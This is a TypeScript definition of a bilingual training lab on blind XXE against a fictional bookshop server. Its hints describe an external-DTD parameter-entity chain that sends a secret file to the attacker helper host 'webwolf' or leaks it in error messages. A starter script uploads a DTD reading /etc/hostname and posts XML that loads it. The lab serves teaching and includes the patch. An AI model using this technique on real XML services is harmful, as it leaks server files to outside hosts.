import type { LabDefinition } from '../../../src/features/web-lab/core/lab';

export const lab: LabDefinition = {
  doc: 'web-security/webgoat-2023.8/A5-Security-Misconfiguration/XXE-11',
  weakness: { vi: 'XXE mù: máy chủ không hiện gì', en: 'Blind XXE: the server shows nothing' },
  technique: {
    vi: 'DTD ngoài gửi nội dung tệp trong một địa chỉ hoặc thông báo lỗi',
    en: 'An external DTD sends a file in an address or an error message',
  },
  owasp: { 2021: 'A05', 2025: 'A02' },
  cwe: [611],
  task: {
    vi: 'Máy chủ nhận đơn bằng XML và chỉ đáp `OK`. Hãy lấy nội dung của `/home/an/secret.txt` ra bằng một yêu cầu đến `webwolf`, rồi bằng thông báo lỗi; sau đó vá máy chủ.',
    en: 'The server takes orders as XML and only answers `OK`. Get the content of `/home/an/secret.txt` out by a request to `webwolf`, and by an error message; then patch the server.',
  },
  host: 'nha-sach.example',
  start: '/',
  engines: ['xml'],
  goals: [
    {
      id: 'sent',
      text: { vi: 'Bí mật nằm trong một yêu cầu đến webwolf', en: 'The secret is in a request to webwolf' },
    },
    { id: 'error', text: { vi: 'Bí mật nằm trong một thông báo lỗi', en: 'The secret is in an error message' } },
  ],
  hints: [
    {
      vi: 'Đặt trên `webwolf` một DTD có ba bước: `%file;` là tệp, `%all;` là chữ khai báo `%send;` với địa chỉ chứa `%file;`, rồi gọi `%all;`. Tài liệu XML nạp DTD ấy bằng một thực thể tham số. Để có thông báo lỗi, hãy thay địa chỉ bằng một tệp không tồn tại.',
      en: 'Put a DTD with three steps onto `webwolf`: `%file;` is the file, `%all;` is a text that declares `%send;` with an address that contains `%file;`, then use `%all;`. The XML document loads that DTD by a parameter entity. For the error message, replace the address by a file that does not exist.',
    },
    {
      vi: 'Giấu thông báo lỗi chỉ đóng một trong hai đường. Đơn hàng có cần khai báo gì không?',
      en: 'Hiding the error message closes only one of the two ways. Does an order need any declarations?',
    },
  ],
  script: `// send(method, path, { json, form, body, headers })
const content = \`<!ENTITY % file SYSTEM "file:///etc/hostname">\`;
await send('POST', 'http://webwolf/upload', {
  form: { name: 'x.dtd', content },
});
const body = '<!DOCTYPE order SYSTEM "http://webwolf/files/x.dtd"><order/>';
const headers = [['Content-Type', 'application/xml']];
console.log((await send('POST', '/orders', { headers, body })).body);
console.log((await send('GET', 'http://webwolf/')).body);`,
  solution: {
    patch: 'no-doctype',
    why: {
      vi: 'Đơn hàng không có khai báo nào, nên DOCTYPE bị từ chối trước khi máy chủ tải DTD hay mở tệp. Câu trả lời cho người gửi không còn chứa chi tiết; chi tiết nằm trong nhật ký.',
      en: 'An order has no declarations, so a DOCTYPE is refused before the server loads a DTD or opens a file. The response no longer contains details; they are in the log.',
    },
  },
};
